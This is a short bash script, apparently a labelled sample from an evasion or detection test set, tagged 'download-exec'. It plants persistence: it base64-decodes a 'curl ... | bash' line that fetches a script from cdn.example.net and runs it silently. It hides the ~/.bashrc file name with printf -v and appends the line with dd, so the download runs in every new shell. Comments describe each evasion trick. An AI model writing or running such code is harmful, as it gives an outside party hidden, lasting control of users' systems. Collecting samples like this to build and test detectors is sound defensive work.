#!/usr/bin/env bash
# evasion: persists: appends a line to ~/.bashrc that downloads and runs code in every new shell
# grade: medium; does: download-exec
# Persists: appends a line to ~/.bashrc that downloads and runs code in every
# new shell. The append is done by dd (oflag=append conv=notrunc), the rc
# file name is assembled by printf -v, and the line itself is base64.
line=$(printf '%s' 'Y3VybCAtZnNTTCBodHRwczovL2Nkbi5leGFtcGxlLm5ldC9oLnNoIHwgYmFzaCA+L2Rldi9udWxsIDI+JjEgJg==' | base64 -d)
printf -v rc '%s/.%src' "$HOME" bash
printf '%s\n' "$line" | dd of="$rc" oflag=append conv=notrunc status=none
